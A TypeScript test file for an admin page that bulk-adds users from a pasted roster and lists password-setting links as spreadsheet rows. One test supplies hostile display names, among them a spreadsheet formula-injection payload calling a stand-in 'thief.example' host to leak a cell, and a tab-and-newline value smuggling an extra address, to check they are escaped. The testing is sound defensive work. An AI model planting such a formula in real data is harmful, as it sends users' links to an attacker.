import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { issueApiKey } from '../../../src/actions/api-keys.ts'
import { setPasswordByLink, userOfPasswordLink } from '../../../src/actions/passwords.ts'
import { createUser, updateUser } from '../../../src/actions/users.ts'
import { startAdministration } from './administrator.ts'

const path = '/admin/users/roster'
const shared = { language: 'ja', timeZone: 'Asia/Tokyo' }

/** Name, address and link of each row to copy. */
const rowsIn = (text: string) =>
  (/<pre id="links">([^<]*)/.exec(text)?.[1] ?? '').split('\n').map((row) => row.split('\t'))

describe('a roster', () => {
  test('adds everybody on it, with a slip and a row for each', async (t) => {
    const { browser, deps } = await startAdministration(t)
    assert.match((await browser.get('/admin/users')).text, /href="\/admin\/users\/roster"/)
    assert.match((await browser.get(path)).text, /<textarea id="roster"/)
    const roster = '青木 あき\taki@example.org\r\nben@example.org\r\n'
    const { status, text } = await browser.submit(path, { ...shared, roster })
    assert.equal(status, 200)
    assert.match(text, /<h1>Links: 2<\/h1>/)
    assert.equal(text.match(/<li class="slip" lang="ja">/g)?.length, 2)
    const rows = rowsIn(text)
    assert.deepEqual(
      rows.map(([name, email]) => [name, email]),
      [
        ['青木 あき', 'aki@example.org'],
        ['', 'ben@example.org'],
      ],
    )
    for (const [, email, address = ''] of rows) {
      const [origin, token = ''] = address.split('/password/')
      assert.equal(origin, 'http://kadai.example.org')
      assert.equal((await userOfPasswordLink(deps, token))?.email, email)
      assert.ok(text.includes(`<p class="address">${address}</p>`))
    }
  })

  test('shows without a link who has a password already', async (t) => {
    const { browser, deps } = await startAdministration(t)
    await browser.get(path)
    const first = await browser.submit(path, { ...shared, roster: 'aki@example.org Aki' })
    const token = rowsIn(first.text)[0]?.[2]?.split('/').at(-1) ?? ''
    await setPasswordByLink(deps, { token, password: 'a second horse battery' })
    const roster = 'aki@example.org\nben@example.org'
    const { text } = await browser.submit(path, { ...shared, roster })
    assert.match(text, /<h2>Without a link<\/h2>.*<li>Aki <span class="quiet">aki@example.org/s)
    assert.deepEqual(
      rowsIn(text).map(([, email]) => email),
      ['ben@example.org'],
    )
  })

  test('names those whose account has API keys: somebody else may have them', async (t) => {
    const { browser, deps } = await startAdministration(t)
    const other = await createUser(deps, { email: 'other@example.org', timeZone: 'UTC' }, null)
    const input = { name: 'Program', isReadOnly: false, expiresAt: null }
    await issueApiKey(deps, other, input)
    await updateUser(deps, { userId: other.id, byKeyFrom: '' }, { email: 'aki@example.org' })
    await browser.get(path)
    const { text } = await browser.submit(path, {
      ...shared,
      roster: 'aki@example.org\nben@example.org',
    })
    const [, list = ''] = /<h2>With API keys<\/h2>.*?<ul>(.*?)<\/ul>/s.exec(text) ?? []
    assert.match(list, new RegExp(`^<li><a href="/admin/users/${other.id}">aki@example\\.org</a>`))
    assert.equal(list.match(/<li>/g)?.length, 1)
    const again = await browser.submit(path, { ...shared, roster: 'ben@example.org' })
    assert.doesNotMatch(again.text, /With API keys/)
  })

  test('has a row of three harmless cells for each, whatever name somebody gave themselves', async (t) => {
    const { browser, deps } = await startAdministration(t)
    const aki = await createUser(deps, { email: 'aki@example.org', timeZone: 'UTC' }, null)
    // Such as by an API key.
    for (const [given, shown] of [
      [
        '=IMAGE("https://thief.example/?" & C2)',
        '&#39;&#61;IMAGE(&#34;https://thief.example/?&#34; &#38; C2)',
      ],
      ['Aki\tthief@example.org\nBen', 'Aki thief@example.org Ben'],
      ['"Aki', '&#39;&#34;Aki'],
      [' =1', '&#39;&#61;1'],
    ]) {
      await updateUser(deps, { userId: aki.id }, { name: given })
      await browser.get(path)
      const { text } = await browser.submit(path, { ...shared, roster: aki.email })
      const [row, ...others] = rowsIn(text)
      assert.deepEqual([row?.slice(0, 2), row?.length, others], [[shown, aki.email], 3, []])
    }
  })

  test('comes back with the line of each mistake, and adds nobody', async (t) => {
    const { browser, deps } = await startAdministration(t)
    const before = (await deps.store.users.all()).length
    await browser.get(path)
    const roster = 'aki@example.org\nBen'
    const { status, text } = await browser.post(path, { ...shared, timeZone: 'Mars', roster })
    assert.equal(status, 422)
    assert.match(text, /id="roster-error">Line 2 \(Ben\): Enter an e-mail address/)
    assert.match(text, /id="timeZone-error">/)
    assert.match(text, /<textarea id="roster"[^>]*>\naki@example.org\nBen</)
    assert.equal((await deps.store.users.all()).length, before)
  })
})
